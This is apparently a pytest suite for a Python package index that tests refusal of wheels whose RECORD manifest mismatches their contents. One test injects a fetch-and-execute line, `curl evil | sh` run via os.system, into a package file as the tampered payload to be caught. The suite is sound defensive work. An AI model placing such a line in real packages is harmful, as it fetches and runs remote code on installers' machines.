"""A wheel whose RECORD does not describe its contents exactly is refused (PyPI only emails
the owners; installers would fail or, worse, install unchecked files)."""

from __future__ import annotations

import base64
import hashlib
import io
import zipfile
from collections.abc import Callable
from types import SimpleNamespace
from typing import Any

import pytest

from bastion.archives import Archive, Limits, reader
from bastion.packages.models import File
from bastion.upload import distribution
from tests import builders

pytestmark = pytest.mark.django_db(transaction=True)

RECORD = "samplepkg-1.0.dist-info/RECORD"
INIT = "samplepkg/__init__.py"


def assert_refused(response: Any, reason: str) -> None:
    assert response.status_code == 400, response.content
    assert response.reason_phrase == reason
    assert "Traceback" not in response.content.decode()
    assert File.objects.count() == 0


def b64(data: bytes, algorithm: str = "sha256") -> str:
    return base64.urlsafe_b64encode(hashlib.new(algorithm, data).digest()).rstrip(b"=").decode()


def line(path: str, data: bytes, algorithm: str = "sha256") -> str:
    return f"{path},{algorithm}={b64(data, algorithm)},{len(data)}"


def rewrite(
    dist: builders.Dist, change: Callable[[dict[str, bytes]], None]
) -> tuple[bytes, list[tuple[str, str]]]:
    """The wheel's members, changed (RECORD as text is members[RECORD]), zipped again."""
    with zipfile.ZipFile(io.BytesIO(dist.data)) as zf:
        members = {info.filename: zf.read(info) for info in zf.infolist()}
    change(members)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, content in members.items():
            zf.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), content)
    data = buf.getvalue()
    return data, dist.form(sha256_digest=hashlib.sha256(data).hexdigest())


def record_lines(members: dict[str, bytes]) -> list[str]:
    return members[RECORD].decode().splitlines()


def set_record(members: dict[str, bytes], lines: list[str]) -> None:
    members[RECORD] = ("\n".join(lines) + "\n").encode()


def upload_changed(upload: Any, token: str, change: Callable[[dict[str, bytes]], None]) -> Any:
    dist = builders.wheel("samplepkg", "1.0")
    data, fields = rewrite(dist, change)
    return upload(dist, token, fields=fields, data=data)


def test_builder_wheels_have_a_correct_record(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0", extra_members={"samplepkg/data.bin": b"\0" * 5000})
    assert upload(dist, token).status_code == 200


def test_content_changed_after_record_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        members[INIT] = b"import os; os.system('curl evil | sh')\n"

    response = upload_changed(upload, token, change)
    assert_refused(
        response,
        f"Invalid distribution file. RECORD hash does not match the content of '{INIT}'",
    )


def test_file_not_listed_in_record_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        members["samplepkg/x.py"] = b"import os\n"

    response = upload_changed(upload, token, change)
    assert_refused(response, "Invalid distribution file. 'samplepkg/x.py' is not listed in RECORD")


def test_record_entry_missing_from_the_wheel_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        set_record(members, [*record_lines(members), line("samplepkg/gone.py", b"x")])

    response = upload_changed(upload, token, change)
    assert_refused(
        response,
        "Invalid distribution file. RECORD lists 'samplepkg/gone.py', which is not in the wheel",
    )


def test_wrong_size_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        lines = [
            f"{INIT},sha256={b64(members[INIT])},999" if row.startswith(INIT + ",") else row
            for row in record_lines(members)
        ]
        set_record(members, lines)

    response = upload_changed(upload, token, change)
    assert_refused(
        response, f"Invalid distribution file. RECORD size does not match the content of '{INIT}'"
    )


def test_file_without_hash_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        lines = [f"{INIT},," if r.startswith(INIT + ",") else r for r in record_lines(members)]
        set_record(members, lines)

    response = upload_changed(upload, token, change)
    assert_refused(response, f"Invalid distribution file. RECORD has no hash for '{INIT}'")


@pytest.mark.parametrize("algorithm", ["md5", "sha1"])
def test_weak_hashes_are_refused(upload: Any, token: str, algorithm: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        lines = [
            line(INIT, members[INIT], algorithm) if r.startswith(INIT + ",") else r
            for r in record_lines(members)
        ]
        set_record(members, lines)

    response = upload_changed(upload, token, change)
    assert_refused(
        response,
        f"Invalid distribution file. RECORD hash for '{INIT}' uses {algorithm}, which is too weak",
    )


def test_unknown_hash_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        lines = [
            f"{INIT},crc32=AAAA,10" if r.startswith(INIT + ",") else r
            for r in record_lines(members)
        ]
        set_record(members, lines)

    response = upload_changed(upload, token, change)
    assert_refused(
        response,
        f"Invalid distribution file. RECORD hash for '{INIT}' uses an unknown algorithm",
    )


def test_malformed_record_line_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        set_record(members, [*record_lines(members), "just-a-path"])

    response = upload_changed(upload, token, change)
    assert response.status_code == 400
    assert response.reason_phrase.startswith("Invalid distribution file. RECORD line ")
    assert response.reason_phrase.endswith("does not have 3 fields")


def test_missing_record_keeps_pypis_refusal(upload: Any, token: str) -> None:
    dist = builders.wheel("samplepkg", "1.0", omit=("{dist_info}/RECORD",))
    assert_refused(
        upload(dist, token),
        "Wheel 'samplepkg-1.0-py3-none-any.whl' does not contain the required RECORD file: "
        "samplepkg-1.0.dist-info/RECORD",
    )


def test_other_strong_hashes_signatures_and_directories_are_accepted(
    upload: Any, token: str
) -> None:
    """sha512 and blake2b, hex digests (as some real wheels write), RECORD.jws not listed,
    and directory entries (normally not listed; listed without hash here) are all fine."""

    def change(members: dict[str, bytes]) -> None:
        members["samplepkg/sub/"] = b""
        x_py = b"X = 1\n"
        members["samplepkg/sub/x.py"] = x_py
        members["samplepkg-1.0.dist-info/RECORD.jws"] = b"{}"
        meta = "samplepkg-1.0.dist-info/METADATA"
        lines = [r for r in record_lines(members) if not r.startswith((INIT + ",", meta + ","))]
        lines += [
            line(INIT, members[INIT], "sha512"),
            line(meta, members[meta], "blake2b"),
            f"samplepkg/sub/x.py,sha256={hashlib.sha256(x_py).hexdigest()},6",
            "samplepkg/sub/,,",
        ]
        set_record(members, lines)

    assert upload_changed(upload, token, change).status_code == 200


def test_hashing_over_the_time_budget_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
    """A wheel too slow to hash is refused, never accepted with its RECORD unchecked."""
    clock = [0.0]
    monkeypatch.setattr(reader, "time", SimpleNamespace(monotonic=lambda: clock[0]))
    original = Archive.iter_chunks

    def slow(self: Archive, name: str, chunk_size: int = 65536) -> Any:
        clock[0] += 100.0  # every member takes longer than the whole budget
        return original(self, name, chunk_size)

    monkeypatch.setattr(Archive, "iter_chunks", slow)
    dist = builders.wheel("samplepkg", "1.0")
    with pytest.raises(distribution.DistributionError) as exc:
        distribution.inspect(
            io.BytesIO(dist.data), dist.filename, "bdist_wheel", Limits(max_seconds=20)
        )
    assert str(exc.value) == (
        "Invalid distribution file. Cannot check RECORD: "
        "Reading the archive took longer than allowed"
    )


def test_record_with_far_more_entries_than_members_is_refused(upload: Any, token: str) -> None:
    def change(members: dict[str, bytes]) -> None:
        extra = [line(f"samplepkg/gone{i}.py", b"x") for i in range(2 * len(members) + 20)]
        set_record(members, [*record_lines(members), *extra])

    response = upload_changed(upload, token, change)
    assert_refused(
        response, "Invalid distribution file. RECORD lists more files than the wheel holds"
    )
